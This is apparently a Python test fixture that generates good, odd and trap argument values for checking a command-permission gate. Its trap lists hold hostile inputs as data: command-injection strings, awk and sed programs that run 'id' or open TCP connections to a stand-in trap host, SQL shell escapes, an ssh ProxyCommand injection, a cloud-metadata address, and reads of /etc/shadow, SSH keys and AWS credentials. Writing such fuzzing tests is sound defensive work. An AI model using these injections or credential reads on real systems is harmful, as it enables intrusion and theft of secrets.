"""Values for the arguments and options of calls, by the kinds of the policy: good ones, odd ones, and traps.

Good values get a call through, odd ones may. Traps are what some other reading takes for an option, a file, an address
or a program; whether a call with one is allowed is for the gate to say, what it does is for the run to show.
"""

from __future__ import annotations

from dataclasses import dataclass
from random import Random
from typing import Final

from support import rule_world as world
from support.rule_expressions import sample

TRAPS: Final = (
    *(
        "-o",
        "-rf",
        "-",
        "--",
        "---",
        "--help",
        "--version",
        "-V",
        "-h",
        "-e",
        "-i",
        "-f",
        "-x",
        "-exec",
        "-ok",
        "-delete",
    ),
    *(f"-f{world.TRAP}/asks", f"-f={world.TRAP}/asks", f"--file={world.TRAP}/plain", f"@{world.TRAP}/names"),
    *(f"--files0-from={world.TRAP}/plain", f"--output={world.TMPDIR}/out", f"-o{world.TMPDIR}/out", "-o=-", "-oout"),
    *(f"={world.TRAP}/plain", f"{world.TRAP}/plain", f"../../..{world.TRAP}/plain", f"file:{world.TRAP}/plain"),
    *(f"file://{world.TRAP}/plain", f"/inet/tcp/0/{world.TRAP_ADDRESS}/9", f"http://{world.TRAP_ADDRESS}/x"),
    *(f"http://{world.TRAP_HOST}/x", f"@{world.TRAP_ADDRESS}", world.TRAP_HOST, f"user@{world.TRAP_HOST}:/x"),
    *(
        f"{world.TRAP}/canary",
        f"|{world.TRAP}/canary",
        f"{world.TRAP}/canary|",
        f";{world.TRAP}/canary",
        f"$({world.TRAP}/canary)",
    ),
    *(f"`{world.TRAP}/canary`", f"!{world.TRAP}/canary", f"\\! {world.TRAP}/canary", f"%({world.TRAP}/canary)"),
    *("%n", "%s%s%s", "%99999999d", "", " ", "\n", "a\nb", "a\tb", "é", "\u202e", "\ud7ff", "a" * 300, "{}", "+", "+1"),
    *("{};", ";", "a=b", "PATH=/x", "LD_PRELOAD=/x.so", "a[0]", "a[$(id)]", "*", "?", "~", "~root", "$HOME", "${IFS}"),
    *(
        "0",
        "-1",
        "1e9",
        "0x10",
        "99999999999999999999",
        "NaN",
        "/dev/tcp/127.6.6.6/9",
        "/proc/self/environ",
        "/dev/zero",
    ),
    *("/etc/shadow", "/etc/passwd", "unixexec:path=/bin/id", "system", "e", "I", "set", "add", "flush", "restart"),
)


@dataclass(frozen=True, slots=True)
class Values:
    """What may stand for a kind."""

    good: tuple[str, ...]
    odd: tuple[str, ...] = ()
    traps: tuple[str, ...] = ()


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


_FILES: Final = tuple(f"{directory}/{name}" for directory in (world.DATA, "/var/log/app") for name in world.PLAIN_NAMES)
_ODD_FILES: Final = (
    *(f"{world.DATA}/{name}" for name in (*world.ODD_NAMES, *world.PACKED_NAMES, "link", "sub/../notes.md")),
    *(f"./{name}" for name in world.ODD_NAMES),
    *world.ODD_NAMES,
    *world.PLAIN_NAMES,
    *("//srv//data/./notes.md", "/srv/data/", f"{world.DATA}/missing", "-", "/dev/stdin", "/dev/null", "/proc/uptime"),
)
_SECRET_FILES: Final = (
    *(f"{world.DATA}/server.key", f"{world.DATA}/.env", f"{world.DATA}/link-dir/key", f"{world.HOME}/.aws/credentials"),
    *(f"{world.HOME}/.ssh/id_ed25519", f"{world.STATE}/daemon.db", "/proc/self/environ", "/proc/1/root/etc/shadow"),
)
_FILE: Final = Values(_FILES, _ODD_FILES, _SECRET_FILES)
_DIRECTORIES: Final = Values(
    (world.DATA, "/var/log/app", f"{world.DATA}/sub", f"{world.REPOS}/shop"),
    (".", "./", "sub", "/", "/proc", "/srv/data/../data", f"{world.DATA}/"),
    (world.TRAP, f"{world.DATA}/link-dir", world.HOME),
)
_HOSTS: Final = Values(
    (*world.HOSTS, "127.1.0.1", "localhost"),
    _words("WEB.example web.example. 10.0.0.7 ::1 [::1] 127.1.0.1:80 web"),
    (world.TRAP_HOST, world.TRAP_ADDRESS, "127.0.0.1.nip.io", "169.254.169.254", "0x7f060606", "-web.example"),
)
_URLS: Final = Values(
    ("http://web.example/health", "http://127.1.0.1:8080/", "https://db.example/a?b=c"),
    _words("web.example web.example:80/x HTTP://web.example/ http://web.example:9/%2e%2e/x http://web.example/{a,b}"),
    (
        *("http://web.example@trap.example/", "http://trap.example/", "ftp://web.example/", "file:///srv/trap/plain"),
        *("http://web.example/[1-9]", "http://web.example#@trap.example/", "-http://web.example/", "@/srv/trap/asks"),
        *("http://web.example\\@trap.example/", "http://web.example,trap.example/", "telnet://web.example:25"),
    ),
)
_NAMES: Final = Values(
    _words("shop web-1 nginx ssh db_1 a.b root"),
    _words("shop@1 a:b a/b UPPER 1 a,b"),
    ("-shop", "a b", "shop;id", "../x"),
)
_UNITS: Final = Values(_words("nginx nginx.service ssh cron shop@1.service"), ("ssh*", "a b"), ("-.mount", "--all"))

_BY_KIND: Final[dict[str, Values]] = {
    "any": Values(("error", "a b", "10", "%s\\n"), ("", "-n", "=", "a=b", "é", "(", "!", "-a", "-o")),
    "text": Values(
        ("error", "10.0.0.1", "a b", "%s", "^[0-9]", "2026-01-01", "1 hour ago", ","),
        ("%n %c", "*.log", "a|b", "x\\ny", "(", "[", "a=b", "+%s", "%{x}", "today"),
    ),
    "variable": Values(_words("line name"), (), ("PATH", "a[0]")),
    "archive": Values(
        tuple(f"{world.DATA}/{name}" for name in ("a.tar", "a.tar.gz", "a.tar.bz2", "a.tar.xz")),
        ("a:b", f"{world.DATA}/a:b", "-", f"{world.DATA}/notes.md"),
        ("web.example:/a.tar", f"{world.TRAP}/canary", f"|{world.TRAP}/canary"),
    ),
    "ports": Values(_words("80 443 22-25"), _words("0 99999 http")),
    "format": Values(("+%s", "+%F %T"), ("+", "+%n"), ("%s", "01020304", "--set=2020-01-01")),
    "glob": Values(("*.log", "*.md", "a?"), ("*", "[a-z]*", "{a,b}", "sub")),
    "size": Values(_words("5 10 1K 2M 1"), _words("+5 -5 0 1b 1kB 99999999")),
    "duration": Values(_words("1 0.1 2 1s"), _words("0 0.001 1m 5h")),
    "sleep": Values(_words("0 0.01 0.1"), _words("1m inf 1h")),
    "word": Values(_words("auto name table k UTF-8 size json 2 1,2"), _words("a=b a:b /x %n @x +1")),
    "name": _NAMES,
    "file": _FILE,
    "path": _FILE,
    "listing": Values((*_FILES, *_DIRECTORIES.good), (*_ODD_FILES, *_DIRECTORIES.odd), _SECRET_FILES[2:]),
    "directory": _DIRECTORIES,
    "own": Values((f"{world.WORKDIR}/notes.md",), ("notes.md",), (f"{world.DATA}/notes.md",)),
    "key": _FILE,
    "repo": Values((f"{world.REPOS}/shop/conf.yaml",), (f"{world.REPOS}/shop",), ("git@trap.example:x",)),
    "manifest": Values((f"{world.REPOS}/shop/conf.yaml",), (f"{world.REPOS}/shop",), ("http://trap.example/x.yaml",)),
    "project": Values((f"{world.REPOS}/shop/conf.yaml",), (f"{world.REPOS}/shop",), ("oci://trap.example/x",)),
    "sink": Values(("/dev/null", "-"), ("/dev/stdout", "/dev/stderr"), (f"{world.TMPDIR}/out", "/dev/tcp/127.6.6.6/9")),
    "device": Values(
        _words("/dev/sda /dev/nvme0n1 /dev/md0"), _words("/dev/sda1 /dev/../etc/shadow sda"), ("/dev/zero",)
    ),
    "url": _URLS,
    "page": _URLS,
    "dig": Values(
        (*_HOSTS.good, "@web.example", "+short", "A", "MX", "+time=1", "+tries=1"),
        _words("+trace +noall +answer -x ANY IN txt"),
        ("@trap.example", f"-f{world.TRAP}/asks", f"-k{world.TRAP}/key", "+domain=trap.example", "trap.example"),
    ),
    "host": _HOSTS,
    "hostport": Values(
        tuple(f"{host}:443" for host in _HOSTS.good), (*_HOSTS.odd, "web.example:https"), ("trap.example:443", ":443")
    ),
    "target": Values(
        tuple(f"ops@{host}" for host in world.HOSTS), _HOSTS.good, ("-oProxyCommand=id", "ops@trap.example")
    ),
    "header": Values(
        ("Accept: */*", "X-A: b"), ("Host: web.example", "X;", "A:b"), ("@/srv/trap/plain", "Host: trap.example")
    ),
    "writeout": Values(
        ("%{http_code}\\n", "%{time_total}"), ("%{url}", "%%"), ("@/srv/trap/plain", "%output{/session/tmp/x}%{url}")
    ),
    "awk": Values(
        ("{print $1}", "$2 > 5 {print $1, $2}", "/error/ {n++} END {print n}", "NR==1", "1"),
        ('{printf "%s\\n", $1}', 'BEGIN {FS=","} {print $2}', "{print length($0)}", '{gsub(/a/, "b"); print}'),
        (
            *(
                'BEGIN {system("id")}',
                '{print > "/session/tmp/x"}',
                '{print | "id"}',
                'BEGIN {"id" | getline x; print x}',
            ),
            *(
                'BEGIN {while ((getline x < "/srv/trap/plain") > 0) print x}',
                'BEGIN {print ENVIRON["PATH"]}',
                '@load "readfile"',
            ),
            *(
                '@include "/srv/trap/program.awk"',
                'BEGIN {print |& "/inet/tcp/0/127.6.6.6/9"}',
                'BEGIN {ARGV[1]="/srv/trap/plain"; ARGC=2} 1',
            ),
            *(
                'BEGIN {f="sys" "tem"; @f("id")}',
                '{print $1 >\n"/session/tmp/x"}',
                "-f/srv/trap/program.awk",
                '{close("id")}',
            ),
        ),
    ),
    "sed": Values(
        ("1,5p", "s/a/b/g", "/error/p", "$d", "2q"),
        ("s|/|_|g", "1~2d", "/a/,/b/p", "=;p", "s/x/\\n/"),
        (
            "1e id",
            "s/a/id/e",
            "w /session/tmp/x",
            "s/a/b/w /session/tmp/x",
            "r /srv/trap/plain",
            "R /srv/trap/plain",
            "F",
            "1,$!{e id\n}",
            "s/.*/id/;e",
        ),
    ),
    "jq": Values(
        (".", ".name", ".items[] | .id", "length"),
        ("keys", "[.items[].state]", "tojson"),
        ("env", "$ENV.PATH", "input_filename", 'import "a" as a; .', "@sh"),
    ),
    "yq": Values((".", ".name"), (".port",), ("env(PATH)", 'load("/srv/trap/plain")', "$ENV")),
    "template": Values(
        ("{{.State.Status}}", "{{.Name}}"),
        ("{{json .Mounts}}", "x {{.Id}} y"),
        ("{{.Config.Env}}", "{{.}}", "{{json .}}"),
    ),
    "properties": Values(
        _words("ActiveState ActiveState,SubState MainPID"), ("Id",), ("Environment", "ActiveState,Environment")
    ),
    "resource": Values(
        _words("pods deployments nodes svc"), _words("pods,svc pods/x"), _words("secrets pods,secrets secret/x")
    ),
    "container": _NAMES,
    "swarm": _NAMES,
    "stack": _NAMES,
    "service": _NAMES,
    "unit": _UNITS,
    "workload": Values(_words("deployment/shop deploy/web"), _words("sts/db"), _words("secret/x deployment/-x")),
    "workloadtype": Values(_words("deployment sts"), (), ("secret",)),
    "workloadname": _NAMES,
    "pod": _NAMES,
    "podref": Values(("pod/shop-1", "pods/web"), ("po/x",), ("secret/x",)),
    "gitrev": Values(_words("HEAD main v1.0"), ("HEAD~1",), ("--output=x",)),
    "gitrange": Values(("main..HEAD",), ("a...b",), ("--output=x..y",)),
    "gitfile": Values(("notes.md", "README.md"), ("a/b.md",), (".env", "../x.md")),
    "gitblob": Values(("HEAD:README.md",), (), ("HEAD:.env",)),
    "gitformat": Values(("%h %s",), ("%aI",), ("%G?", "%GG")),
    "release": _NAMES,
    "sql": Values(
        ("select 1", "select count(*) from orders"),
        ("show tables", "select 'x'"),
        (
            "drop table a",
            "select 1 \\! id",
            "\\! id",
            "select pg_read_file('/srv/trap/plain')",
            "select 1; select 2",
            "copy a to program 'id'",
            ".shell id",
            "select readfile('/srv/trap/plain')",
        ),
    ),
    "role": Values(("reader", "shop_ro", "monitor"), (), ("root", "host=trap.example user=reader")),
    "cloudword": Values(
        ("eu-west-1", "shop", "i-0123"), ("a,b", "Name=x"), ("file:///srv/trap/plain", "@/srv/trap/plain")
    ),
    "redisword": Values(("shop:1", "10"), ("a",), ("-1", "eval")),
    "connection": Values(("web.example:80:web.example:80", "::127.0.0.1:9"), (), ("web.example:80:trap.example:80",)),
}

KNOWN: Final = frozenset(_BY_KIND) | {"re", "one", "int"}
"""The kinds that have values."""


def values(kind: str, random: Random) -> Values:
    """Return values of a kind; those of a regular expression, a closed set or a number are made from its parameter."""
    name, _, parameter = kind.partition(":")
    if name == "one":
        return Values(tuple(parameter.split(",")), traps=(parameter, "other"))
    if name == "re":
        return Values(tuple(sample(parameter, random) for _ in range(4)))
    if name == "int":
        low, _, high = parameter.rpartition("-")
        least, most = int(low or 0), int(high or 50)
        return Values(
            tuple(str(random.randint(least, min(most, least + 40))) for _ in range(3)),
            ("0", "-1", "+1", "007", str(most + 1)),
        )
    return _BY_KIND.get(name, Values(("shop", "1")))


def value(kind: str, random: Random) -> str:
    """Return a value for a kind: most are good, some odd, few a trap."""
    found, dice = values(kind, random), random.random()
    if dice < 0.75:
        return random.choice(found.good)
    if dice < 0.9 and found.odd:
        return random.choice(found.odd)
    return random.choice((*found.traps * 4, *TRAPS))
